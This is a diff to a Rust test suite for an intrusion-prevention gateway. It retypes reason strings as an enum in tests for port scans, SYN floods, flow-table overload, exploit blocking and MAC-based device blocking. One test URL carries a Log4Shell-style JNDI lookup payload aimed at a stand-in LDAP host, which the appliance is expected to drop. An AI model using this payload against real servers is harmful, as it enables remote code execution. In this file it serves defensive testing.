@@ -80,7 +80,8 @@ fn an_internet_port_scan_is_denied_and_reported_once() {
         .find(|e| e.engine == Engine::Ips)
         .map(|e| e.reasons.clone());
     assert_eq!(
-        scan.and_then(|r| r.first().cloned()).as_deref(),
+        scan.and_then(|r| r.first().map(ToString::to_string))
+            .as_deref(),
         Some("port scan")
     );
     assert_eq!(gw.flow_count(), 0, "denied SYNs leave no state");
@@ -107,7 +108,7 @@ fn a_syn_flood_is_one_episode_and_the_excess_is_dropped() {
     assert_eq!(dos.len(), 1, "{:#?}", out.events);
     assert_eq!(dos[0].action, Action::Drop);
     assert_eq!(dos[0].dst_ip, WEB);
-    assert_eq!(dos[0].reasons[0], "SYN flood");
+    assert_eq!(dos[0].reasons[0].to_string(), "SYN flood");
     assert_eq!(forwarded, 3000, "the threshold's 1,000 a second pass");
 }
 
@@ -149,10 +150,10 @@ fn a_million_spoofed_syns_hit_the_flow_cap_fail_open() {
     let full: Vec<_> = out
         .events
         .iter()
-        .filter(|e| e.reasons.first().is_some_and(|r| r == "flow table full"))
+        .filter(|e| e.reasons.first() == Some(&appliance::Reason::FlowTableFull))
         .collect();
     assert_eq!(full.len(), 1, "one event for the episode");
-    assert!(full[0].reasons[2].contains("uninspected"));
+    assert!(full[0].reasons[2].to_string().contains("uninspected"));
     assert_eq!(forwarded, 1_000_000, "fail-open passes everything");
     assert!(gw.net_stats().uninspected > 900_000);
 }
@@ -163,7 +164,7 @@ fn a_million_spoofed_syns_hit_the_flow_cap_fail_closed() {
     let full: Vec<_> = out
         .events
         .iter()
-        .filter(|e| e.reasons.first().is_some_and(|r| r == "flow table full"))
+        .filter(|e| e.reasons.first() == Some(&appliance::Reason::FlowTableFull))
         .collect();
     assert_eq!(full.len(), 1);
     assert_eq!(full[0].action, Action::Drop);
@@ -202,7 +203,7 @@ fn an_exploit_in_a_request_is_dropped_with_its_flow() {
         (ev.engine, ev.action, ev.src_ip),
         (Engine::Ips, Action::Drop, PC_IP)
     );
-    assert_eq!(ev.reasons[1], "sid 9000001 rev 1");
+    assert_eq!(ev.reasons[1].to_string(), "sid 9000001 rev 1");
     assert_eq!(
         ev.url.as_deref(),
         Some("http://shop.example/index.php?x=${jndi:ldap://198.51.100.9/a}")
@@ -249,7 +250,11 @@ fn a_blocked_device_is_cut_by_mac() {
     assert!(out.frames.is_empty());
     assert_eq!(out.events.len(), 1, "one log line per device and hold-down");
     assert_eq!(
-        out.events[0].reasons,
+        out.events[0]
+            .reasons
+            .iter()
+            .map(ToString::to_string)
+            .collect::<Vec<_>>(),
         vec![
             "device block list",
             "MAC 00:0c:29:11:22:33",
